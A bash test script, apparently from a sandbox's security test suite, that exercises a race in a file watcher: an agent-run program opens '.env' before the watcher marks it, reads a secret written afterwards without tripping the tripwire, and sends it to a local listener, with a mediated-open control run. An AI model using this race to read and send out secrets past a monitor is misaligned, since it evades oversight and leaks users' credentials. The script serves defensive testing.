#!/bin/bash
# The watcher's window (docs/threat-model.md, "Isolated files") used to the full: the
# agent spins on open(".env"); the user's own tool creates `.env` (O_CREAT) and writes
# the secret a moment later (as editors, `dotenv`, `cp` do). The agent's open lands
# between the creation and the watcher's mark; the descriptor then reads the bytes
# written afterwards - no further open, so no tripwire, whenever the mark lands.
set -u; . "$(dirname "$0")/../common.sh"
D=$R4/watcher-window-early-open; W=$D/ws H=$D/home; rm -rf $W $H; mkdir -p $W $H
gcc -O1 -I$R4 -o $W/raceopen $D/raceopen.c
listen 127.0.0.1 $D/out.txt
for i in 1 2 3; do
  rm -f $W/.env
  echo "== try $i: outside: create .env, write the secret 50 ms later"
  ( sleep 2; python3 -c "import time,sys;f=open(sys.argv[1],'w');f.flush();time.sleep(0.05);f.write('SECRET-ENV-race-$i\n');f.close()" $W/.env ) & CPID=$!
  run $H $W ./raceopen 127.0.0.1 .env; wait $CPID
done
verdict $D/out.txt SECRET-ENV
listen 127.0.0.1 $D/out-mediated.txt
rm -f $W/.env; echo "== control: mediated opens, same race"
( sleep 2; python3 -c "import time,sys;f=open(sys.argv[1],'w');f.flush();time.sleep(0.05);f.write('SECRET-ENV-race-m\n');f.close()" $W/.env ) & CPID=$!
runmed $H $W ./raceopen 127.0.0.1 .env; wait $CPID
verdict $D/out-mediated.txt SECRET-ENV
